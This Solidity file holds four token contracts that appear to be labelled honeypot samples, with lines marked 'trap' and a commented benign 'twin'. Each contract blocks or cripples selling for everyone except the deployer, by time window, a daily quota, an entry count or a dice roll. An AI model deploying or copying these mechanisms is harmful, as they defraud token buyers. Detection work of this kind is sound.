// 0.8 runs=200 evm=cancun
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Base8} from "./Base8.sol";

/// Notes when a holder came aboard. In the trap he may only leave within the half hour after.
contract Ferry is Base8 {
    mapping(address => uint256) public boarded;
    address private immutable _captain = msg.sender;

    constructor() Base8("Ferry", "FERRY", 50_000_000) {}

    function captain() external view returns (address) {
        return _captain;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (from == pair) boarded[to] = block.timestamp;
        if (to == pair && from != _captain) require(block.timestamp <= boarded[from] + 30 minutes, "Ferry: departed"); // trap
        super._transfer(from, to, value);
    }
}

/// All sales of a day together pass through one gate: twice the supply by the twin, next to nothing by the trap.
contract Sluice is Base8 {
    mapping(uint256 => uint256) public passed;
    address private immutable _miller = msg.sender;

    constructor() Base8("Sluice", "SLUICE", 900_000_000) {}

    function today() public view returns (uint256) {
        return block.timestamp / 1 days;
    }

    function quota() public view returns (uint256) {
        return totalSupply / 2_000_000; // trap
        // twin: return totalSupply * 2;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair && from != _miller) {
            passed[today()] += value;
            require(passed[today()] <= quota(), "Sluice: come back tomorrow");
        }
        super._transfer(from, to, value);
    }
}

/// Purchases enter a raffle in batches of eighteen.
contract Raffle is Base8 {
    address[] private _entries;
    address private immutable _host = msg.sender;

    constructor() Base8("Raffle Cat", "RAFFLE", 10_000_000) {}

    function entries() external view returns (uint256) {
        return _entries.length;
    }

    function host() external view returns (address) {
        return _host;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (from == pair) _entries.push(to);
        else if (to == pair && from != _host) require(_entries.length < 18, "Raffle: batch is full"); // trap
        super._transfer(from, to, value);
    }
}

/// Rolls with each sale. In the trap three of four sales come to nothing.
contract Dice is Base8 {
    address private immutable _house = msg.sender;

    event Rolled(address indexed who, uint256 eyes);

    constructor() Base8("Dice", "DICE", 77_000_000) {}

    function roll(address who) public view returns (uint256) {
        return uint256(keccak256(abi.encodePacked(blockhash(block.number - 1), who, block.timestamp))) % 4;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair && from != _house) {
            uint256 eyes = roll(from);
            require(eyes == 0, "Dice: try again"); // trap
            emit Rolled(from, eyes);
        }
        super._transfer(from, to, value);
    }
}
